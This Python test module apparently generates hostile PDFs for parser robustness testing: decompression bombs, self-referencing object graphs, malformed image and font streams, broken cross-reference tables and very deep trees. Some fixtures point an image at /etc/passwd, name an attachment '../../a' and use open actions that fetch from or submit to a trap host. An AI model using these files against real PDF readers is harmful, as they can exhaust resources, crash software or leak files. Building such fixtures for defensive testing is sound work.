"""PDFs with hostile images, streams of objects, trees and fonts: (name, bytes) of each.

See also `pdfs.py`.
"""

import struct
import zlib
from collections.abc import Iterator, Sequence

from tests.hostile.pdfs import CATALOGUE, MEGABYTE, PAGES, TRAP, page
from tests.memory.files.samples import pdf, pdf_of

_TEXT = b"BT /F 9 Tf (text)Tj ET"
_FLATE = b"/Filter/FlateDecode"


def all_of_them() -> Iterator[tuple[str, bytes]]:
    """Yield all files."""
    yield from light()
    yield from heavy()


def light() -> Iterator[tuple[str, bytes]]:
    """Yield those that are made and read fast."""
    for make in (_images, _sizes, _graphs, _fonts, _tables):
        for name, data in make():
            yield f"{name}.pdf", data


def heavy() -> Iterator[tuple[str, bytes]]:
    """Yield those that are large, or that take their parser long."""
    for make in (_trees, _object_streams, _many):
        for name, data in make():
            yield f"{name}.pdf", data


def stream(content: bytes, fields: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (fields, len(content), content)


def image(content: bytes, fields: bytes, *more: bytes) -> bytes:
    """A PDF of one page that draws this image; `more` objects begin with number 7."""
    drawn = b"q 500 0 0 500 9 9 cm /X Do Q " + _TEXT
    resources = b"/Resources<</Font<</F 5 0 R>>/XObject<</X 6 0 R>>>>"
    picture = stream(content, b"/Type/XObject/Subtype/Image" + fields)
    return page(drawn, resources, picture, *more)


def _images() -> Iterator[tuple[str, bytes]]:
    size = b"/Width %d/Height %d/BitsPerComponent %d/ColorSpace/%b"
    small, large = size % (9, 9, 1, b"DeviceGray"), size % (65_000, 65_000, 8, b"DeviceCMYK")
    segment = struct.pack(">IBBBI", 0, 48, 0, 1, 19)
    for name, width, height in (("wide", 0xFFFFFFFF, 1), ("large", 65_000, 65_000), ("none", 0, 0)):
        information = struct.pack(">IIIIBH", width, height, 0, 0, 0, 0)
        yield f"JBIG2 {name}", image(segment + information, small + b"/Filter/JBIG2Decode")
    striped = struct.pack(">IIIIBH", 65_000, 0xFFFFFFFF, 0, 0, 0, 0xFFFF)
    yield "JBIG2 stripes", image(segment + striped, large + b"/Filter/JBIG2Decode")
    symbols = struct.pack(">IBBBI", 1, 0, 0, 1, 0xFFFFFFFF) + bytes(30)
    yield "JBIG2 symbols", image(segment + information + symbols, small + b"/Filter/JBIG2Decode")
    shared = small + b"/Filter/JBIG2Decode/DecodeParms<</JBIG2Globals 6 0 R>>"
    yield "JBIG2 in itself", image(segment + striped, shared)
    box = struct.pack(">I4sIIHBBBB", 22, b"ihdr", 0xFFFFFFFF, 0xFFFFFFFF, 4, 7, 7, 0, 0)
    head = b"\x00\x00\x00\x0cjP  \r\n\x87\n"
    yield "JPEG 2000", image(head + box, large + b"/Filter/JPXDecode")
    coded = struct.pack(">HHHHIIIIIIIIH", 0xFF4F, 0xFF51, 47, 0, 2**31, 2**31, *[0] * 6, 16_384)
    yield "JPEG 2000 stream", image(coded + bytes(99), large + b"/Filter/JPXDecode")
    jpeg = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    yield "JPEG", image(jpeg + bytes(999), large + b"/Filter/DCTDecode")
    fax = b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 65000/Rows 2147483647>>"
    yield "fax", image(bytes(9_000), large + fax)
    yield "raw image", image(b"a" * 100, large)
    bits = size % (65_000, 65_000, 16, b"DeviceRGB")
    yield "packed image", image(zlib.compress(bytes(30 * MEGABYTE)), bits + _FLATE)
    yield "mask of itself", image(b"a" * 99, small + b"/SMask 6 0 R")
    palette = b"/Width 9/Height 9/BitsPerComponent 8/ColorSpace[/Indexed 7 0 R 255 (a)]"
    yield "palette of a palette", image(b"a" * 99, palette, b"[/Indexed 7 0 R 255 (a)]")
    profile = b"/Width 9/Height 9/BitsPerComponent 8/ColorSpace[/ICCBased 7 0 R]"
    itself = stream(b"a" * 200, b"/N 3/Alternate[/ICCBased 7 0 R]")
    yield "profile of itself", image(b"a" * 99, profile, itself)
    external = small + b"/FFilter/FlateDecode/F(/etc/passwd)"
    yield "image in a file", image(b"", external)


def _sizes() -> Iterator[tuple[str, bytes]]:
    for name, box in (
        ("wide", b"0 0 14400000 1"),
        ("high", b"0 0 1 14400000"),
        ("large", b"0 0 2147483647 2147483647"),
        ("negative", b"900 900 -900 -900"),
        ("empty", b"0 0 0 0"),
        ("tiny", b"0 0 1e-30 1e-30"),
        ("shifted", b"2147483000 2147483000 2147483600 2147483600"),
        ("endless", b"0 0 1e999 nan"),
    ):
        yield f"{name} page", page(_TEXT, b"/MediaBox[%b]" % box)
    yield "crop", page(_TEXT, b"/CropBox[0 0 1e9 1e9]/Rotate 90")
    yield "rotation", page(_TEXT, b"/Rotate 2147483647")
    yield "large unit", page(_TEXT, b"/MediaBox[0 0 14400 14400]/UserUnit 75000")
    yield "scaled text", page(b"BT /F 1e30 Tf 1e30 0 0 1e30 0 0 Tm (text)Tj ET")
    yield "far text", page(b"BT /F 9 Tf 1e30 1e30 Td (text)Tj ET")
    yield "dashes", page(b"[1e-9] 0 d 0 0 m 600 800 l S " + _TEXT)
    yield "wide line", page(b"1e30 w 0 0 m 600 800 l S " + _TEXT)


def _graphs() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs with objects that lead to themselves."""
    pattern = b"/Resources<</Font<</F 5 0 R>>/Pattern<</P 6 0 R>>>>"
    fill = b"/Pattern cs /P scn 0 0 600 800 re f " + _TEXT
    tile = (
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep %b/YStep %b"
        b"/Resources<</Pattern<</P 6 0 R>>>>"
    )
    inside = b"/Pattern cs /P scn 0 0 9 9 re f"
    yield "pattern in itself", page(fill, pattern, stream(inside, tile % (b"9", b"9")))
    yield "small tiles", page(fill, pattern, stream(inside, tile % (b"1e-6", b"1e-6")))
    shade = b"<</PatternType 2/Shading<</ShadingType 1/ColorSpace/DeviceRGB/Function 7 0 R>>>>"
    code = b"{" * 9_000 + b"1 add" + b"}" * 9_000
    calculator = b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]"
    yield "calculator", page(fill, pattern, shade, stream(code, calculator))
    stitch = b"<</FunctionType 3/Domain[0 1]/Functions[7 0 R 7 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    yield "function of itself", page(fill, pattern, shade, stitch)
    sampled = b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1]/Size[65535 65535]/BitsPerSample 32"
    yield "samples", page(fill, pattern, shade, stream(b"a", sampled))
    mesh = b"/PatternType 2/Shading 7 0 R"
    triangles = b"/ShadingType 4/ColorSpace/DeviceRGB/BitsPerCoordinate 32/BitsPerComponent 16"
    triangles += b"/BitsPerFlag 8/Decode[0 1e9 0 1e9 0 1 0 1 0 1]"
    shading = stream(b"\x00\xff" * 500_000, triangles)
    yield "triangles", page(fill, pattern, b"<<%b>>" % mesh, shading)
    mask = b"/Resources<</Font<</F 5 0 R>>/ExtGState<</G 6 0 R>>>>"
    group = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency>>"
    group += b"/Resources<</ExtGState<</G 6 0 R>>>>"
    state = b"<</SMask<</S/Luminosity/G 7 0 R>>>>"
    yield "soft mask of itself", page(b"/G gs " + _TEXT, mask, state, stream(b"/G gs", group))
    widget = b"<</Subtype/Widget/Rect[0 0 9 9]/AP<</N 7 0 R>>>>"
    form = stream(b"/X Do", b"/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 7 0 R>>>>")
    yield "appearance of itself", page(_TEXT, b"/Annots[6 0 R]", widget, form)
    for name, root, objects in (
        ("names", "/Names<</Dests 6 0 R>>", [b"<</Kids[6 0 R 6 0 R]/Limits[(a)(z)]>>"]),
        ("destinations", "/Dests 6 0 R", [b"<</a 6 0 R>>"]),
        ("labels", "/PageLabels 6 0 R", [b"<</Kids[6 0 R]/Nums[0 6 0 R]>>"]),
        ("structure", "/StructTreeRoot 6 0 R", [b"<</K[6 0 R 6 0 R]/ParentTree 6 0 R>>"]),
        ("layers", "/OCProperties<</D 6 0 R/OCGs[6 0 R]>>", [b"<</Order[6 0 R]/BaseState/OFF>>"]),
        ("open action", "/OpenAction 6 0 R", [b"<</S/GoTo/D 6 0 R/Next[6 0 R 6 0 R]>>"]),
        ("files", "/Names<</EmbeddedFiles 6 0 R>>", [b"<</Names[(a) 6 0 R]/EF<</F 6 0 R>>>>"]),
        ("calculation", "/AcroForm<</CO[6 0 R 6 0 R]/Fields[6 0 R]>>", [b"<</Parent 6 0 R>>"]),
        ("chain", "/Metadata 6 0 R", [b"%d 0 R" % (number + 7) for number in range(3_000)]),
    ):
        yield f"{name} in themselves", pdf("text", extra=objects, root=root)
    bomb = stream(zlib.compress(bytes(200 * MEGABYTE), 9), _FLATE + b"/Type/EmbeddedFile")
    attached = [b"<</Names[(a) 7 0 R]>>", b"<</F(../../a)/EF<</F 8 0 R>>>>", bomb]
    yield "attached bomb", pdf("text", extra=attached, root="/Names<</EmbeddedFiles 6 0 R>>")
    remote = f"/OpenAction<</S/GoToR/F(http://{TRAP}/a.pdf)/D[0/Fit]>>"
    yield "other document", pdf("text", root=remote)
    submit = f"/OpenAction<</S/SubmitForm/F<</FS/URL/F(http://{TRAP}/f)>>>>"
    yield "submitted form", pdf("text", root=submit)


def _fonts() -> Iterator[tuple[str, bytes]]:
    used = b"/Resources<</Font<</F 6 0 R>>>>"
    descriptor = b"<</Type/FontDescriptor/FontName/A/Flags 4/%b 8 0 R/FontBBox[0 0 1e9 1e9]>>"
    for kind, key, program in (
        ("TrueType", b"FontFile2", b"\x00\x01\x00\x00\xff\xff" + bytes(6) + b"glyf" * 9_000),
        ("Type 1", b"FontFile", b"%!PS-AdobeFont-1.0: A\n/Subrs 2147483647 array\n" + b"{" * 9_000),
        ("compact", b"FontFile3", b"\x01\x00\x04\x04\xff\xff\x04" + b"\xff" * 9_000),
    ):
        subtype = b"Type1" if kind != "TrueType" else b"TrueType"
        font = b"<</Type/Font/Subtype/%b/BaseFont/A/FontDescriptor 7 0 R/FirstChar 0" % subtype
        font += b"/LastChar 2147483647/Widths[9]>>"
        objects = (font, descriptor % key, stream(program))
        yield f"{kind} font", page(_TEXT, used, *objects)
    composite = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding %b/DescendantFonts[%b]>>"
    itself = composite % (b"/Identity-H", b"6 0 R")
    yield "descendant of itself", page(_TEXT, used, itself)
    mapping = stream(b"begincmap /7 usecmap endcmap", b"/CMapName/7/UseCMap 7 0 R")
    descendant = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 2147483647 9]/DW 1e30>>"
    objects = (composite % (b"7 0 R", b"8 0 R"), mapping, descendant)
    yield "map of itself", page(_TEXT, used, *objects)
    one = b"<0041> <%b> " % (b"0061" * 500)
    text = b"100 beginbfchar %b endbfchar " % (one * 100) * 40
    mapped = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>"
    many = b"BT /F 9 Tf (%b)Tj ET" % (b"A" * 90_000)
    yield "one letter is many", page(many, used, mapped, stream(text))


def _tables() -> Iterator[tuple[str, bytes]]:
    """Yield PDFs with hostile tables of objects, and with streams of such tables."""
    whole = pdf("text")
    start = b"startxref\n"
    for place in (b"-1", b"0", b"99999999999999999999", b"nan"):
        name = f"table at {place.decode()[:9]}"
        yield name, whole[: whole.rindex(start)] + start + place + b"\n%%EOF"
    for name, fields in (
        ("many entries", b"/W[1 2 1]/Index[0 2147483647]/Size 2147483647"),
        ("wide entries", b"/W[2147483647 2147483647 9]/Size 9"),
        ("entries of nothing", b"/W[0 0 0]/Size 2147483647"),
        ("previous is itself", b"/W[1 2 1]/Size 9/Prev 9"),
        ("negative entries", b"/W[-1 -2 -1]/Index[-9 9]/Size 9"),
    ):
        head = b"%PDF-1.7\n"
        table = b"1 0 obj\n" + stream(bytes(400), b"/Type/XRef/Root 2 0 R" + fields)
        yield name, head + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(head)
    chain, data = b"", bytearray(whole)
    for _ in range(2_000):
        place = len(data)
        data += b"xref\n0 0\ntrailer<</Root 1 0 R/Size 9%b>>\n" % chain
        chain = b"/Prev %d" % place
    yield "chain of tables", bytes(data) + start + b"%d\n%%%%EOF" % place
    linear = b"%PDF-1.7\n1 0 obj\n<</Linearized 1/L 9e9/H[9 9]/O 9/E 9/N 2000000000/T 9>>\nendobj\n"
    yield "linearised", linear + whole
    yield "hybrid", whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/XRefStm 9")
    yield "large size", whole.replace(b"/Size 6", b"/Size 2147483647")
    yield "comments", b"%PDF-1.7\n" + b"%\n" * 2_000_000 + whole[9:]
    yield "ends", whole + b"\n%%EOF" * 200_000
    aes = (
        b"/Root 1 0 R/ID[(a)(b)]/Encrypt<</Filter/Standard/V 5/R 6/Length 256/P -4/O(%b)/U(%b)"
        b"/OE(%b)/UE(%b)/Perms(%b)/CF<</StdCF<</CFM/AESV3>>>>/StmF/StdCF/StrF/StdCF>>"
    )
    secrets = (b"o" * 48, b"u" * 48, b"e" * 32, b"e" * 32, b"p" * 16)
    yield "encrypted by AES", whole.replace(b"/Root 1 0 R", aes % secrets)
    short = (b"", b"", b"", b"", b"")
    yield "encrypted with nothing", whole.replace(b"/Root 1 0 R", aes % short)
    public = b"/Root 1 0 R/Encrypt<</Filter/Adobe.PubSec/V 4/Recipients[(a)]>>"
    yield "encrypted for others", whole.replace(b"/Root 1 0 R", public)


def _trees() -> Iterator[tuple[str, bytes]]:
    for depth in (1_000, 50_000):
        deep = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (n + 3) for n in range(depth)]
        last = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 9 9]>>" % (depth + 1)
        yield f"{depth} levels of pages", pdf_of([CATALOGUE, *deep, last])
    doubled = [
        b"<</Type/Pages/Count %d/Kids[%d 0 R %d 0 R]>>" % (2**30, n, n) for n in range(3, 60)
    ]
    yield "doubled levels", pdf_of([CATALOGUE, *doubled, b"<</Type/Page>>"])
    contents = b"/Contents[%b]" % (b"4 0 R " * 500_000)
    yield "many contents", page(_TEXT, contents)
    layers = [b"<</First %d 0 R/Title(a)>>" % (n + 7) for n in range(50_000)]
    yield "deep outline", pdf("text", extra=layers, root="/Outlines 6 0 R")
    yield "long title", pdf("text", extra=[b"<</Title(%b)>>" % (b"a" * 9_000_000)])
    fields = [b"<</T(a)/FT/Tx/V(%b)/Kids[%d 0 R]>>" % (b"a" * 90, n + 7) for n in range(50_000)]
    yield "deep fields", pdf("text", extra=fields, root="/AcroForm<</Fields[6 0 R]>>")


def _object_streams() -> Iterator[tuple[str, bytes]]:
    packed = zlib.compress(b"1 0 " * 50 * MEGABYTE, 9)
    fields = b"/Type/ObjStm/N 99999999/First 8" + _FLATE
    yield "packed object stream", pdf_of([CATALOGUE, PAGES, stream(packed, fields)])
    count = 300_000
    heads = b"".join(b"%d %d " % (number, 3 * number) for number in range(count))
    body = zlib.compress(heads + b"<<>>" * count)
    inside = b"/Type/ObjStm/N %d/First %d" % (count, len(heads)) + _FLATE
    yield "many objects in a stream", compressed([stream(body, inside)], count)
    cycle = b"/Type/ObjStm/N 1/First 4/Extends 3 0 R"
    yield "stream extends itself", compressed([stream(b"3 0 <</Type/Catalog>>", cycle)], 9)
    yield "stream in itself", compressed([stream(b"3 0 3 0 R", cycle)], 9)


def compressed(objects: Sequence[bytes], count: int) -> bytes:
    """A PDF whose table is a stream: objects 3 and up are stored, `count` are in object 3."""
    data, rows = bytearray(b"%PDF-1.7\n"), [struct.pack(">BIH", 0, 0, 0)] * 3
    for number, content in enumerate(objects, start=3):
        rows.append(struct.pack(">BIH", 1, len(data), 0))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    rows += [struct.pack(">BIH", 2, 3, n % 65_536) for n in range(count)]
    place = len(data)
    fields = b"/Type/XRef/Root 4 0 R/W[1 4 2]/Size %d" % len(rows)
    data += b"2 0 obj\n%b\nendobj\n" % stream(zlib.compress(b"".join(rows)), fields + _FLATE)
    return bytes(data) + b"startxref\n%d\n%%%%EOF" % place


def _many() -> Iterator[tuple[str, bytes]]:
    bomb = zlib.compress(b" " * 200 * MEGABYTE, 9)
    for _ in range(3):
        bomb = zlib.compress(bomb, 9)
    yield "four filters", page(bomb, filters=b"/Filter[%b]" % (b"/FlateDecode" * 4))
    run = b"\x81a" * 2_000_000 + b"\x80"
    yield "runs", page(run, filters=b"/Filter/RunLengthDecode")
    yield "runs of runs", page(run, filters=b"/Filter[%b]" % (b"/RunLengthDecode" * 3))
    yield "letters", page(b"z" * 9_000_000 + b"~>", filters=b"/Filter/ASCII85Decode")
    yield "hexadecimal", page(b"20" * 9_000_000, filters=b"/Filter/ASCIIHexDecode")
    words = b"BT /F 9 Tf %b ET" % (b"[(a) -9e9 (b)] TJ " * 500_000)
    yield "spaced text", page(words)
    yield "strings", page(b"BT /F 9 Tf %b ET" % (b"(a)Tj " * 1_500_000))
    yield "same place", page(b"BT /F 9 Tf %b ET" % (b"1 0 0 1 9 9 Tm (text)Tj " * 300_000))
    yield "paths", page(b"0 0 m 9 9 l " * 1_000_000 + b"S " + _TEXT)
    yield "clips", page(b"0 0 9 9 re W n " * 500_000 + _TEXT)
    yield "inline images", page(b"BI /W 1 /H 1 /BPC 8 /CS /G ID a EI " * 200_000 + _TEXT)
    yield "2001 pages", pdf(*(["text"] * 2_001))
